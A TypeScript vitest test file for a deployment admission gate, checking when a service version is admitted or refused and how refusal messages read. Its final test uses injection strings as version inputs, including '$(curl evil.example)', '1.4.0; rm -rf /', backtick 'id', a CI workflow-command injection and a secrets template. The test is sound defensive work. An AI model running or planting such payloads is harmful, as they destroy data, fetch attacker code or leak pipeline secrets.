import { describe, expect, it } from "vitest";
import { admit } from "../../src/release/admission.ts";
import type { AdmissionFacts } from "../../src/release/admission-facts.ts";
import { type KnownService, readAdmissionRequest } from "../../src/release/admission-request.ts";
import { commitShaSchema, digestSchema } from "../../src/release/release.ts";

const commit = commitShaSchema.parse("a".repeat(40));
const otherCommit = commitShaSchema.parse("b".repeat(40));
const digest = digestSchema.parse(`sha256:${"1".repeat(64)}`);
const otherDigest = digestSchema.parse(`sha256:${"2".repeat(64)}`);

const info: KnownService = {
  name: "info",
  tagPrefix: "info-v",
  environments: [
    { name: "dev", channel: "alpha" },
    { name: "staging", channel: "rc" },
    { name: "production", channel: "stable" },
  ],
};
const good: AdmissionFacts = {
  commit,
  digest,
  before: [{ environment: "staging", past: "succeeded" }],
  quarantine: undefined,
  live: { version: "1.3.0", digest: otherDigest },
  isOlderThanLive: false,
  freeze: undefined,
  errorBudget: undefined,
  unasked: [],
  released: undefined,
};
const wanted = { service: "info", environment: "production", version: "1.4.0-alpha.7" };

function decide(written: Partial<typeof wanted>, facts: Partial<AdmissionFacts> | "unknown" = {}) {
  const request = readAdmissionRequest([info, { ...info, name: "data" }], { ...wanted, ...written });
  return admit(request, facts === "unknown" ? undefined : { ...good, ...facts });
}

function kinds(admission: ReturnType<typeof admit>) {
  return admission.kind === "refused" ? admission.refusals.map(({ kind }) => kind) : [];
}

describe("admission", () => {
  it.each(["1.4.0-alpha.7", "v1.4.0-alpha.7", "info-v1.4.0-alpha.7", " 1.4.0-alpha.7 "])(
    "admits %j when every fact speaks for it",
    (version) => {
      const release = { version: "1.4.0-alpha.7", digest, commit };
      expect(decide({ version })).toEqual({ kind: "admitted", release });
    },
  );

  it.each<[string, Partial<typeof wanted>, Partial<AdmissionFacts>]>([
    ["nothing is live yet", {}, { live: undefined }],
    ["it is the first environment", { environment: "dev" }, { before: [] }],
    ["the plain name is this very build's", {}, { released: { commit, digest } }],
  ])("admits when %s", (_what, written, facts) => {
    expect(decide(written, facts).kind).toBe("admitted");
  });

  it.each<[string, Partial<typeof wanted>, Partial<AdmissionFacts>, string]>([
    ["an unknown service", { service: "nfo" }, {}, "unknown-service"],
    ["an unknown environment", { environment: "prodction" }, {}, "unknown-environment"],
    ["no environment", { environment: "" }, {}, "unknown-environment"],
    ["a malformed version", { version: "1.4" }, {}, "malformed-version"],
    ["no version", { version: "" }, {}, "malformed-version"],
    ["a version that does not exist", {}, { commit: undefined, digest: undefined, before: [] }, "no-such-version"],
    ["a version without an image", {}, { digest: undefined, before: [] }, "no-image"],
    ["one never delivered before", {}, { before: [{ environment: "staging", past: "never" }] }, "not-delivered-before"],
    [
      "one that failed before",
      {},
      { before: [{ environment: "staging", past: "not-succeeded" }] },
      "not-delivered-before",
    ],
    ["one of which the past is unknown", {}, { before: [] }, "not-delivered-before"],
    ["any while the error budget is spent", {}, { errorBudget: "it is gone" }, "error-budget"],
    ["any that nobody would be asked about", {}, { unasked: ["team:sre"] }, "unprotected"],
    ["any while a freeze is on", {}, { freeze: { name: "Christmas", untilMs: 0 } }, "freeze"],
    ["one in quarantine", {}, { quarantine: { reason: "errors", atMs: 0 } }, "quarantined"],
    ["what is live", {}, { live: { version: "1.4.0-rc.1", digest } }, "already-live"],
    ["an ancestor of what is live", {}, { isOlderThanLive: true }, "older-than-live"],
    ["one whose plain name is taken", {}, { released: { commit: otherCommit, digest: otherDigest } }, "name-taken"],
    ["another build of the released commit", {}, { released: { commit, digest: otherDigest } }, "name-taken"],
  ])("refuses %s", (_what, written, facts, kind) => {
    expect(kinds(decide(written, facts))).toEqual([kind]);
  });

  it("says every reason at once", () => {
    const past = [{ environment: "staging", past: "never" } as const];
    const facts = { before: past, isOlderThanLive: true, quarantine: { reason: "errors", atMs: 0 } } as const;
    expect(kinds(decide({}, facts))).toEqual(["not-delivered-before", "quarantined", "older-than-live"]);
    expect(kinds(decide({ service: "x", version: "y" }, "unknown"))).toEqual(["unknown-service", "malformed-version"]);
    expect(kinds(decide({ environment: "x" }, { commit: undefined, digest: undefined }))).toEqual([
      "unknown-environment",
      "no-such-version",
    ]);
  });

  it("refuses when nothing could be found out", () => {
    expect(decide({}, "unknown").kind).toBe("refused");
  });

  it("names what there is, and what was probably meant", () => {
    const admission = decide({ environment: "prodction" });
    expect(admission).toMatchObject({
      refusals: [{ message: expect.stringContaining("there is dev, staging, production. Did you mean production?") }],
    });
  });

  it.each([
    "$(curl evil.example)",
    "1.4.0; rm -rf /",
    "`id`",
    "1.4.0\n::set-output name=x::y",
    "1.4.0\u202e",
    "${{ secrets.X }}",
  ])("shows %j in quotes only, without a line of its own", (version) => {
    const admission = decide({ version });
    const message = admission.kind === "refused" ? admission.refusals[0].message : "";
    expect(message).toMatch(/^".*" is not a version/);
    expect(message).not.toMatch(/[\n\u202e]/);
  });
});
